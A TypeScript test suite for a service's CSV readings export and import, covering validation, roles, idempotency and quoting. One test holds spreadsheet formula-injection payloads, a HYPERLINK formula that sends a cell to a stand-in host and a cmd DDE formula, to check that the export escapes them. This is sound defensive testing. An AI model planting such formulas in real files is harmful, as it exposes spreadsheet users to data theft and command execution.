import t, { type Test } from 'tap';
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import type { Service } from '../../src/service.js';
import { api } from '../helpers/api.js';
import { admin, startService } from '../helpers/service.js';

/**
 * `GET /initiatives/:id/readings.csv` and `POST /indicators/:id/readings` with `text/csv` (design §7, issue #4 item
 * 4), through the real service: the export shows the readings as currently valid; an export, edited, imports again;
 * an import is all or nothing, and its errors name the row and the column.
 */

type Headers = Record<string, string>;
type Row = Record<string, string>;

const Q1 = { start: '2026-01-01', end: '2026-03-31' };
const Q2 = { start: '2026-04-01', end: '2026-06-30' };
const CORE = ['partnerId', 'periodStart', 'periodEnd'];
const TAIL = ['value', 'narrative', 'source', 'indicatorId', 'readingId', 'recordedAt', 'seq', 'reviewStatus'];

const client = (service: Service) => {
  const { app, store } = service;
  const c = api(app);
  const exportCsv = async (initiative: string, query = '', headers: Headers = admin) => {
    const res = await app.inject({ method: 'GET', url: `/initiatives/${initiative}/readings.csv${query}`, headers });
    const ok = res.statusCode === 200;
    return {
      status: res.statusCode,
      res,
      text: res.body,
      header: ok ? (parse(res.body, { to: 1 }) as string[][])[0]! : [],
      rows: ok ? (parse(res.body, { columns: true }) as Row[]) : [],
    };
  };
  const importCsv = async (indicator: string, text: string, headers: Headers = admin) => {
    const res = await app.inject({ method: 'POST', url: `/indicators/${indicator}/readings`, headers: { ...headers, 'content-type': 'text/csv' }, payload: text });
    return { status: res.statusCode, body: res.json(), headers: res.headers };
  };
  const eventCount = async () => (await store.readAll({ maxCount: 1_000_000 })).length;
  return { app, c, exportCsv, importCsv, eventCount };
};

/** An initiative with two partners and three indicators: counts by district, counts by sex and age_group, a qualitative one. */
const setup = async (t: Test, env: Record<string, string> = {}) => {
  const service = await startService(t, env);
  const x = client(service);
  const { c } = x;
  const I = await c.launch();
  const P = await c.partner(I, 'River Trust');
  const P2 = await c.partner(I, 'County Water Board', 'government');
  const G = await c.goal(I);
  const byDistrict = await c.indicator(I, G, { disaggregations: [{ dimension: 'district', values: ['North', 'South', 'East, upper'] }] });
  const bySex = await c.indicator(I, G, {
    name: 'People trained',
    unit: 'people',
    disaggregations: [
      { dimension: 'sex', values: ['female', 'male'] },
      { dimension: 'age_group', values: ['0-17', '18+'] },
    ],
  });
  const story = await c.indicator(I, G, {
    name: 'How families talk about the river',
    measure: 'qualitative',
    unit: 'narrative',
    baseline: { narrative: 'Nobody swims here.', date: '2025-12-31' },
    targets: [],
  });
  return { ...x, service, I, P, P2, G, byDistrict, bySex, story };
};

const csvOf = (header: string[], rows: (string | number)[][]) => stringify([header, ...rows.map((r) => r.map(String))]);

t.test('the export shows exactly the readings as currently valid: corrections applied, retractions left out', async (t) => {
  const { app, c, exportCsv, I, P, P2, byDistrict, bySex, story } = await setup(t);
  const kept = await c.reading(byDistrict, P, { value: 10, source: 'field survey' });
  const north = await c.reading(byDistrict, P, { value: 4, disaggregation: { district: 'North' } });
  const retracted = await c.reading(byDistrict, P2, { value: 99 });
  const trained = await c.reading(bySex, P2, { value: 7, disaggregation: { sex: 'female', age_group: '18+' }, period: Q2 });
  const told = await c.reading(story, P, { value: undefined, narrative: 'Kids ask when they can swim.' });
  const before = await exportCsv(I);
  t.equal(before.rows.length, 5, 'five readings before the changes');

  const correction = await c.post(`/readings/${north}/corrections`, { value: 5, reason: 'recount' });
  t.equal(correction.status, 201);
  t.equal((await c.post(`/readings/${retracted}/retraction`, { reason: 'entered twice' })).status, 201);

  const now = await exportCsv(I);
  t.equal(now.status, 200);
  t.match(now.res.headers['content-type'], /^text\/csv; charset=utf-8/);
  t.match(now.res.headers['content-disposition'], new RegExp(`attachment; filename="readings-${I}\\.csv"`));
  t.same(now.header, [...CORE, 'age_group', 'district', 'sex', ...TAIL], 'dimension columns: the union over the indicators, sorted');
  t.same(
    now.rows.map((r) => [r.readingId, r.indicatorId, r.partnerId, r.periodStart, r.periodEnd, r.age_group, r.district, r.sex, r.value, r.narrative, r.source]),
    [
      [kept, byDistrict, P, Q1.start, Q1.end, '', '', '', '10', '', 'field survey'],
      [north, byDistrict, P, Q1.start, Q1.end, '', 'North', '', '5', '', ''],
      [trained, bySex, P2, Q2.start, Q2.end, '18+', '', 'female', '7', '', ''],
      [told, story, P, Q1.start, Q1.end, '', '', '', '', 'Kids ask when they can swim.', ''],
    ],
    'indicator by indicator in definition order, readings in recording order; the corrected value; no retracted reading',
  );
  const corrected = now.rows.find((r) => r.readingId === north)!;
  t.equal(Number(corrected.seq), correction.body.seq, 'seq is that of the event that set the current value (the correction)');
  const entry = (await app.inject({ method: 'GET', url: `/audit/events?from=${correction.body.seq}&limit=1`, headers: admin })).json().entries[0];
  t.equal(corrected.recordedAt, entry.event.metadata.recordedAt, 'recordedAt is that event\'s recorded time');

  const filtered = await exportCsv(I, `?indicatorId=${bySex}`);
  t.same(filtered.header, [...CORE, 'age_group', 'sex', ...TAIL], 'filtered to one indicator: only its dimensions');
  t.same(filtered.rows.map((r) => r.readingId), [trained]);
  t.match(filtered.res.headers['content-disposition'], new RegExp(`readings-${I}-${bySex}\\.csv`));

  const unknown = await exportCsv(I, `?indicatorId=${P}`);
  t.equal(unknown.status, 404, 'an id that is not an indicator of the initiative');
  t.match(unknown.res.headers['content-type'], /^application\/problem\+json/);
  t.equal((await exportCsv('00000000-0000-4000-8000-000000000000')).status, 404, 'an unknown initiative');
  t.equal((await exportCsv(I, '?bogus=1')).status, 400, 'unknown query parameters are refused');
});

t.test('reviewStatus says which rows count: readings awaiting or returned from review hold their slot but count nowhere yet', async (t) => {
  const { c, exportCsv, importCsv, I, P, G } = await setup(t);
  const reviewed = await c.indicator(I, G, { name: 'Reviewed counts', requiresApproval: true });
  const approved = await c.reading(reviewed, P, { value: 3 });
  const returned = await c.reading(reviewed, P, { value: 4, period: Q2 });
  const waiting = await c.reading(reviewed, P, { value: 5, period: { start: '2026-07-01', end: '2026-09-30' } });
  t.equal((await c.post(`/readings/${approved}/review`, { outcome: 'approve' })).status, 201);
  t.equal((await c.post(`/readings/${returned}/review`, { outcome: 'return', comment: 'which survey?' })).status, 201);
  const notReviewed = await c.indicator(I, G, { name: 'Counts without review' });
  const accepted = await c.reading(notReviewed, P, { value: 6 });

  const exported = await exportCsv(I);
  const statusOf = new Map(exported.rows.map((r) => [r.readingId, r.reviewStatus]));
  t.same([approved, returned, waiting, accepted].map((id) => statusOf.get(id)), ['approved', 'returned', 'submitted', 'accepted']);
  const returnedRow = exported.rows.find((r) => r.readingId === returned)!;
  t.equal(returnedRow.value, '4', 'a review changes the status, not the value');

  // The export imports again into an indicator of the same shape: reviewStatus, an export column, is ignored there.
  const copy = await c.indicator(I, G, { name: 'A copy', requiresApproval: true });
  const rows: Row[] = exported.rows.filter((r) => r.indicatorId === reviewed).map((r) => ({ ...r, indicatorId: '' }));
  const header = Object.keys(rows[0]!);
  const imported = await importCsv(copy, csvOf(header, rows.map((r) => header.map((h) => r[h]!))));
  t.equal(imported.status, 201, JSON.stringify(imported.body));
  t.equal(imported.body.count, 3);
});

t.test('asOf: the export as it stood at a seq or a time', async (t) => {
  const { c, exportCsv, I, P, byDistrict } = await setup(t);
  const reading = await c.reading(byDistrict, P, { value: 10 });
  const first = await exportCsv(I);
  const seq = Number(first.rows[0]!.seq);
  const recordedAt = first.rows[0]!.recordedAt!;
  await c.post(`/readings/${reading}/corrections`, { value: 12, reason: 'recount' });
  await c.reading(byDistrict, P, { value: 3, period: Q2 });
  t.same((await exportCsv(I)).rows.map((r) => r.value), ['12', '3']);
  t.equal((await exportCsv(I, `?asOf=${seq}`)).text, first.text, 'asOf=<seq> answers what the export showed then, byte for byte');
  t.equal((await exportCsv(I, `?asOf=${encodeURIComponent(recordedAt)}`)).text, first.text, 'asOf=<time> too');
  const empty = await exportCsv(I, `?asOf=${seq - 1}`);
  t.same([empty.status, empty.rows], [200, []], 'before the first reading: the header only');
  t.same(empty.header, [...CORE, 'age_group', 'district', 'sex', ...TAIL]);
  t.equal((await exportCsv(I, '?asOf=999999')).status, 404, 'a point beyond the log');
  t.equal((await exportCsv(I, '?asOf=yesterday')).status, 400);
});

t.test('export → edit → import: the edited rows are recorded, the export\'s own columns ignored', async (t) => {
  const { app, c, exportCsv, importCsv, eventCount, I, P, P2, byDistrict } = await setup(t);
  await c.reading(byDistrict, P, { value: 10, source: 'field survey' });
  await c.reading(byDistrict, P2, { value: 4, disaggregation: { district: 'East, upper' } });
  const exported = await exportCsv(I, `?indicatorId=${byDistrict}`);
  t.equal(exported.rows.length, 2);

  // Next quarter: the same rows with new periods and values (readingId, recordedAt and seq left as exported).
  const edited = parse(exported.text, { columns: false }) as string[][];
  const [header, ...rows] = edited;
  const at = (name: string) => header!.indexOf(name);
  for (const row of rows) {
    row[at('periodStart')] = Q2.start;
    row[at('periodEnd')] = Q2.end;
    row[at('value')] = String(Number(row[at('value')]!) * 2);
  }
  const before = await eventCount();
  const imported = await importCsv(byDistrict, stringify(edited));
  t.equal(imported.status, 201, JSON.stringify(imported.body));
  t.equal(await eventCount(), before + 2, 'one event per row');
  t.equal(imported.body.indicatorId, byDistrict);
  t.equal(imported.body.count, 2);
  t.match(imported.body.receipts, [
    { row: 2, id: String, eventId: String, stream: `indicator-${byDistrict}`, seq: Number, inclusion: /^\/audit\/proof\/inclusion\?seq=\d+$/ },
    { row: 3, id: String, eventId: String, stream: `indicator-${byDistrict}`, seq: Number },
  ]);
  const [a, b] = imported.body.receipts as { id: string; eventId: string; revision: number; seq: number }[];
  t.equal(b!.revision, a!.revision + 1, 'consecutive revisions: one append');
  t.equal(b!.seq, a!.seq + 1, 'consecutive seqs');

  const now = await exportCsv(I, `?indicatorId=${byDistrict}`);
  t.same(
    now.rows.map((r) => [r.partnerId, r.periodStart, r.district, r.value, r.source]),
    [
      [P, Q1.start, '', '10', 'field survey'],
      [P2, Q1.start, 'East, upper', '4', ''],
      [P, Q2.start, '', '20', 'field survey'],
      [P2, Q2.start, 'East, upper', '8', ''],
    ],
  );
  t.same(now.rows.slice(2).map((r) => [r.readingId, Number(r.seq)]), [[a!.id, a!.seq], [b!.id, b!.seq]], 'the receipts name the new readings and their events');
  const events = (await app.inject({ method: 'GET', url: `/audit/events?from=${a!.seq}&limit=2`, headers: admin })).json().entries;
  t.same(events.map((e: { event: { id: string } }) => e.event.id), [a!.eventId, b!.eventId], 'the receipts\' event ids are the log\'s');

  const measurement = (await app.inject({ method: 'GET', url: `/initiatives/${I}/measurement`, headers: admin })).json();
  const series = measurement.view.indicators.find((i: { id: string }) => i.id === byDistrict).series;
  t.same(series.map((p: { total: { value: number } | null }) => p.total?.value), [10, 20], 'the views see the imported readings');
});

t.test('quoting: commas, quotes and line breaks in narrative and source survive export and import', async (t) => {
  const { c, exportCsv, importCsv, I, P, story, byDistrict } = await setup(t);
  const narrative = 'She said: "we swim again, finally".\nSecond line, with a comma;\r\nthird line (CRLF)';
  const source = 'Interview #3, "river walk", 2026';
  await c.reading(story, P, { value: undefined, narrative, source });
  await c.reading(byDistrict, P, { value: 1.25, source: 'a,b,"c"\nd' });
  const exported = await exportCsv(I);
  t.same(exported.rows.map((r) => [r.narrative, r.source]), [['', 'a,b,"c"\nd'], [narrative, source]], 'the export quotes them (csv-stringify) and they parse back');
  t.match(exported.text, /"She said: ""we swim again, finally""\.\nSecond line, with a comma;\r\nthird line \(CRLF\)"/);

  // Import them into a new period of each indicator, then export again.
  const moved = (indicator: string) => {
    const [header, ...rows] = parse(exported.text, { columns: false }) as string[][];
    const keep = rows.filter((r) => r[header!.indexOf('indicatorId')] === indicator);
    for (const r of keep) r[header!.indexOf('periodStart')] = Q2.start;
    for (const r of keep) r[header!.indexOf('periodEnd')] = Q2.end;
    return stringify([header!, ...keep]);
  };
  t.equal((await importCsv(story, moved(story))).status, 201);
  t.equal((await importCsv(byDistrict, moved(byDistrict))).status, 201);
  const again = await exportCsv(I);
  t.same(
    again.rows.map((r) => [r.periodStart, r.value, r.narrative, r.source]),
    [
      [Q1.start, '1.25', '', 'a,b,"c"\nd'],
      [Q2.start, '1.25', '', 'a,b,"c"\nd'],
      [Q1.start, '', narrative, source],
      [Q2.start, '', narrative, source],
    ],
    'byte for byte after the round trip',
  );
});

t.test('text a spreadsheet would run as a formula is exported behind a quote, and imports back as it was written', async (t) => {
  const { c, service, exportCsv, importCsv, I, P, story } = await setup(t);
  const narratives = ['=HYPERLINK("http://x.example/?"&A1,"see")', '@SUM(1+1)', '+1 family', '-- a dash', "'=already quoted", '\tTabbed', 'plain text'];
  for (const [i, narrative] of narratives.entries()) {
    await c.reading(story, P, { value: undefined, narrative, source: i === 0 ? '=cmd|"/c calc"!A1' : 'survey', period: { start: `2026-0${i + 1}-01`, end: `2026-0${i + 1}-28` } });
  }
  const exported = await exportCsv(I);
  t.same(
    exported.rows.map((r) => r.narrative),
    ['\'=HYPERLINK("http://x.example/?"&A1,"see")', "'@SUM(1+1)", "'+1 family", "'-- a dash", "''=already quoted", "'\tTabbed", 'plain text'],
    'a leading quote makes a spreadsheet show each as text',
  );
  t.equal(exported.rows[0]!.source, '\'=cmd|"/c calc"!A1', 'the source column too');

  const [header, ...rows] = parse(exported.text, { columns: false }) as string[][];
  for (const r of rows) r[header!.indexOf('periodStart')] = r[header!.indexOf('periodStart')]!.replace('2026', '2027');
  for (const r of rows) r[header!.indexOf('periodEnd')] = r[header!.indexOf('periodEnd')]!.replace('2026', '2027');
  t.equal((await importCsv(story, stringify([header!, ...rows]))).status, 201);
  const again = await exportCsv(I);
  t.same(
    again.rows.filter((r) => r.periodStart!.startsWith('2027')).map((r) => r.narrative),
    exported.rows.map((r) => r.narrative),
    'the import took the quote off: the same text recorded, exported the same way',
  );
  const recorded = (await service.store.readStream(`indicator-${story}`))
    .filter((e) => e.type === 'ReadingRecorded' && (e.data as { period: { start: string } }).period.start.startsWith('2027'))
    .map((e) => (e.data as { narrative: string }).narrative);
  t.same(recorded, narratives, 'recorded as written');
});

t.test('a bad row is a 400 naming the row and the column, and nothing is recorded', async (t) => {
  const { importCsv, eventCount, P, byDistrict } = await setup(t);
  const header = [...CORE, 'district', 'value', 'narrative', 'source'];
  const good = [P, Q1.start, Q1.end, '', '10', '', ''];
  const before = await eventCount();
  const cases: { name: string; text: string; errors: { path: string; message: RegExp }[] }[] = [
    {
      name: 'a value that is not a number',
      text: csvOf(header, [good, [P, Q2.start, Q2.end, '', '12 households', '', '']]),
      errors: [{ path: 'row 3 / value', message: /not a number/ }],
    },
    { name: 'a number JSON cannot keep', text: csvOf(header, [[P, Q2.start, Q2.end, '', '1e400', '', '']]), errors: [{ path: 'row 2 / value', message: /too large/ }] },
    {
      name: 'a bad date and an unknown partner id format',
      text: csvOf(header, [good, ['not-a-uuid', '2026-13-01', Q2.end, '', '3', '', '']]),
      errors: [{ path: 'row 3 / partnerId', message: /./ }, { path: 'row 3 / periodStart', message: /./ }],
    },
    { name: 'a period that ends before it starts', text: csvOf(header, [[P, Q2.end, Q2.start, '', '3', '', '']]), errors: [{ path: 'row 2 / periodEnd', message: /before start/ }] },
    { name: 'neither value nor narrative', text: csvOf(header, [good, [P, Q2.start, Q2.end, '', '', '', 'survey']]), errors: [{ path: 'row 3 / value', message: /one of value or narrative is required/ }] },
    { name: 'both value and narrative', text: csvOf(header, [[P, Q2.start, Q2.end, '', '3', 'words', '']]), errors: [{ path: 'row 2 / narrative', message: /not both/ }] },
    { name: 'a missing column', text: csvOf(header.filter((h) => h !== 'periodEnd'), [[P, Q1.start, '', '10', '', '']]), errors: [{ path: 'row 1 / periodEnd', message: /missing column/ }] },
    {
      name: 'a row with fewer fields than the header',
      text: `${header.join(',')}\n${good.join(',')}\n${P},${Q2.start},${Q2.end}\n`,
      errors: [{ path: 'row 3 / district', message: /missing field: the row has 3 fields, the header 7/ }],
    },
    { name: 'a field beyond the header', text: `${header.join(',')}\n${good.join(',')},extra\n`, errors: [{ path: 'row 2 / column 8', message: /beyond the last column/ }] },
    { name: 'an unknown column', text: csvOf([...header, 'Notes (internal)'], [[...good, 'x']]), errors: [{ path: 'row 1 / Notes (internal)', message: /unknown column/ }] },
    { name: 'a duplicate column', text: csvOf([...header, 'Value'], [[...good, '3']]), errors: [{ path: 'row 1 / Value', message: /duplicate column/ }] },
    { name: 'an unclosed quote', text: `${header.join(',')}\n${good.join(',')}\n${P},${Q2.start},${Q2.end},,3,"never closed,\n`, errors: [{ path: 'row 3 / narrative', message: /Quote Not Closed/ }] },
    { name: 'another indicator\'s row', text: csvOf([...header, 'indicatorId'], [[...good, P]]), errors: [{ path: 'row 2 / indicatorId', message: new RegExp(`must be empty or ${byDistrict}`) }] },
    { name: 'an empty file', text: '', errors: [{ path: 'body', message: /header row/ }] },
    { name: 'a header and no reading', text: `${header.join(',')}\n\n`, errors: [{ path: 'row 2', message: /at least one reading/ }] },
  ];
  for (const { name, text, errors } of cases) {
    const res = await importCsv(byDistrict, text);
    t.equal(res.status, 400, `${name}: 400`);
    t.match(res.headers['content-type'], /^application\/problem\+json/);
    t.match(res.body, { type: '/problems/validation', title: 'Invalid request', status: 400, detail: /nothing was recorded/ }, `${name}: a validation problem`);
    t.match(res.body.errors, errors, `${name}: ${errors.map((e) => e.path).join(', ')}`);
    t.equal(res.body.errors.length, errors.length, `${name}: and nothing else`);
  }
  const many = await importCsv(byDistrict, csvOf(header, [good, [P, 'x', Q2.end, 'North', 'y', '', ''], good, [P, Q2.start, Q2.end, '', 'z', '', '']]));
  t.same(many.body.errors.map((e: { path: string }) => e.path), ['row 3 / value', 'row 3 / periodStart', 'row 5 / value'], 'every bad row and column is listed, in order');
  t.equal(await eventCount(), before, 'nothing was recorded by any of them');
});

t.test('rules the indicator sets (measure, dimensions, one reading per slot) are a 409 naming the row; nothing is recorded', async (t) => {
  const { c, importCsv, exportCsv, eventCount, I, P, P2, byDistrict, story } = await setup(t);
  const existing = await c.reading(byDistrict, P, { value: 10 });
  const header = [...CORE, 'district', 'sex', 'value', 'narrative', 'source'];
  const before = await eventCount();
  const exported = (await exportCsv(I)).text;

  const wrongDimension = await importCsv(byDistrict, csvOf(header, [[P2, Q1.start, Q1.end, 'West', '', '3', '', ''], [P2, Q1.start, Q1.end, '', 'female', '3', '', '']]));
  t.equal(wrongDimension.status, 409);
  t.match(wrongDimension.body, { type: '/problems/rule-violation', status: 409, detail: '2 of 2 rows refused, so none was recorded' });
  t.match(wrongDimension.body.errors, [
    { path: 'row 2 / district', message: /"West" is not a declared value of district/ },
    { path: 'row 3 / sex', message: /"sex" is not a disaggregation of this indicator/ },
  ]);

  const wrongKind = await importCsv(byDistrict, csvOf(header, [[P2, Q1.start, Q1.end, '', '', '', 'in words', '']]));
  t.equal(wrongKind.status, 409);
  t.match(wrongKind.body.errors, [{ path: 'row 2 / narrative', message: /a count indicator takes a numeric value/ }]);
  const numberForStory = await importCsv(story, csvOf(header, [[P2, Q1.start, Q1.end, '', '', '3', '', '']]));
  t.match([numberForStory.status, numberForStory.body.errors], [409, [{ path: 'row 2 / value', message: /qualitative indicator takes a narrative/ }]]);

  const duplicate = await importCsv(byDistrict, csvOf(header, [[P2, Q2.start, Q2.end, '', '', '1', '', ''], [P, Q1.start, Q1.end, '', '', '11', '', '']]));
  t.equal(duplicate.status, 409, 'a reading that already exists');
  t.same(duplicate.body.errors, [{ path: 'row 3', message: `partner ${P} already reported period ${Q1.start}..${Q1.end} for this disaggregation; correct that reading instead (reading ${existing}: POST /readings/${existing}/corrections)` }]);

  const twice = await importCsv(byDistrict, csvOf(header, [[P2, Q2.start, Q2.end, 'North', '', '1', '', ''], [P2, Q2.start, Q2.end, '', '', '2', '', ''], [P2, Q2.start, Q2.end, 'North', '', '3', '', '']]));
  t.equal(twice.status, 409, 'the same reading twice in the file');
  t.same(twice.body.errors, [{ path: 'row 4', message: 'the same partner, period and disaggregation as row 2' }]);

  const stranger = await importCsv(byDistrict, csvOf(header, [['00000000-0000-4000-8000-000000000077', Q2.start, Q2.end, '', '', '1', '', '']]));
  t.match([stranger.status, stranger.body.errors], [409, [{ path: 'row 2 / partnerId', message: /is not a partner of initiative/ }]]);

  t.equal(await eventCount(), before, 'nothing was recorded');
  t.equal((await exportCsv(I)).text, exported, 'the export is unchanged');
});

t.test('roles: the export reads like the other views; a partner key imports only its own partner\'s rows', async (t) => {
  const { c, exportCsv, importCsv, eventCount, I, P, P2, byDistrict } = await setup(t);
  const J = await c.launch('Elsewhere');
  const partner = await c.key({ role: 'partner', initiativeId: I, partnerId: P });
  const viewer = await c.key({ role: 'viewer', initiativeId: I });
  const auditor = await c.key({ role: 'auditor' });
  const backbone = await c.key({ role: 'backbone', initiativeId: I });
  const otherBackbone = await c.key({ role: 'backbone', initiativeId: J });
  await c.reading(byDistrict, P, { value: 10 });

  for (const [who, headers, status] of [['viewer', viewer.headers, 200], ['auditor', auditor.headers, 200], ['partner', partner.headers, 200], ['backbone', backbone.headers, 200], ['backbone of another initiative', otherBackbone.headers, 403], ['nobody', {}, 401]] as const) {
    t.equal((await exportCsv(I, '', headers)).status, status, `export: ${who} → ${status}`);
  }

  const header = [...CORE, 'value'];
  const before = await eventCount();
  const mixed = await importCsv(byDistrict, csvOf(header, [[P, Q2.start, Q2.end, '3'], [P2, Q2.start, Q2.end, '4'], [P2, Q1.start, Q1.end, '5']]), partner.headers);
  t.equal(mixed.status, 403, 'a partner key importing another partner\'s rows');
  t.match(mixed.body, { type: '/problems/forbidden', detail: '2 of 3 rows refused, so none was recorded' });
  t.match(mixed.body.errors, [{ path: 'row 3 / partnerId', message: /acts only for its own partner/ }, { path: 'row 4 / partnerId' }]);
  t.equal(await eventCount(), before, 'nothing recorded, not even the partner\'s own row');

  t.equal((await importCsv(byDistrict, csvOf(header, [[P, Q2.start, Q2.end, '3']]), partner.headers)).status, 201, 'its own rows');
  t.equal((await importCsv(byDistrict, csvOf(header, [[P2, Q2.start, Q2.end, '4']]), backbone.headers)).status, 201, 'the backbone imports any partner\'s rows');
  for (const [who, headers, status] of [['viewer', viewer.headers, 403], ['auditor', auditor.headers, 403], ['backbone of another initiative', otherBackbone.headers, 403], ['nobody', {}, 401]] as const) {
    t.equal((await importCsv(byDistrict, csvOf(header, [[P2, '2026-07-01', '2026-09-30', '4']]), headers)).status, status, `import: ${who} → ${status}`);
  }
});

t.test('Idempotency-Key: a retried import replays the whole answer and records nothing new', async (t) => {
  const { exportCsv, importCsv, eventCount, I, P, P2, byDistrict } = await setup(t);
  const text = csvOf([...CORE, 'district', 'value'], [[P, Q1.start, Q1.end, '', '3'], [P2, Q1.start, Q1.end, 'North', '4'], [P2, Q1.start, Q1.end, 'South', '5']]);
  const headers = { ...admin, 'idempotency-key': 'import-2026-q1' };
  const first = await importCsv(byDistrict, text, headers);
  t.equal(first.status, 201);
  t.notOk(first.headers['idempotent-replayed']);
  const count = await eventCount();
  const exported = (await exportCsv(I)).text;

  const retry = await importCsv(byDistrict, text, headers);
  t.equal(retry.status, 201, 'not a 409 for duplicates: a replay');
  t.equal(retry.headers['idempotent-replayed'], 'true');
  t.same(retry.body, first.body, 'the same receipts, ids, revisions and seqs');
  t.equal(await eventCount(), count, 'nothing new recorded');
  t.equal((await exportCsv(I)).text, exported);

  const other = await importCsv(byDistrict, csvOf([...CORE, 'value'], [[P, Q2.start, Q2.end, '1']]), headers);
  t.equal(other.status, 422, 'the key reused for other rows');
  t.match(other.body, { type: '/problems/idempotency-key-reused' });
  t.equal(await eventCount(), count);
});

t.test('body limit, media types, header spellings, BOM and blank rows', async (t) => {
  const { exportCsv, importCsv, eventCount, app, I, P, byDistrict } = await setup(t, { BODY_LIMIT_BYTES: '4096' });
  const before = await eventCount();
  const big = csvOf([...CORE, 'value', 'narrative', 'source'], [[P, Q1.start, Q1.end, '1', '', 'x'.repeat(5000)]]);
  const tooBig = await importCsv(byDistrict, big);
  t.equal(tooBig.status, 413, 'above the body limit');
  t.match(tooBig.body, { status: 413, type: '/problems/ctp-body-too-large' });
  t.equal(await eventCount(), before);

  const plain = await app.inject({ method: 'POST', url: `/indicators/${byDistrict}/readings`, headers: { ...admin, 'content-type': 'text/plain' }, payload: 'partnerId' });
  t.equal(plain.statusCode, 415, 'text/plain is neither JSON nor CSV');
  t.match(plain.headers['content-type'], /^application\/problem\+json/);
  const elsewhere = await app.inject({ method: 'POST', url: `/indicators/${byDistrict}/targets`, headers: { ...admin, 'content-type': 'text/csv' }, payload: 'a,b\n1,2\n' });
  t.equal(elsewhere.statusCode, 415, 'other routes still refuse text/csv');
  const json = await app.inject({ method: 'POST', url: `/indicators/${byDistrict}/readings`, headers: admin, payload: { partnerId: P, period: Q1, value: 1, bogus: true } });
  t.same([json.statusCode, json.json().errors], [400, [{ path: 'body.bogus', message: 'unknown field' }]], 'the JSON body is validated as before');

  // Header names in any case, with underscores; a byte order mark; CRLF; blank rows counted as rows.
  const text = `\ufeffPartner_ID,PERIODSTART,period_end,District,Value\r\n\r\n${P},${Q2.start},${Q2.end},,5\r\n,,,,\r\n${P},${Q2.start},${Q2.end},North,x\r\n`;
  const bad = await importCsv(byDistrict, text);
  t.same([bad.status, bad.body.errors], [400, [{ path: 'row 5 / value', message: 'not a number: digits with an optional sign, decimal point and exponent (no thousands separators, units or %)' }]], 'rows are numbered as a spreadsheet shows them');
  const good = await importCsv(byDistrict, text.replace(',North,x', ',North,2'));
  t.equal(good.status, 201);
  t.same(good.body.receipts.map((r: { row: number }) => r.row), [3, 5]);
  t.same((await exportCsv(I)).rows.map((r) => [r.district, r.value]), [['', '5'], ['North', '2']]);
});
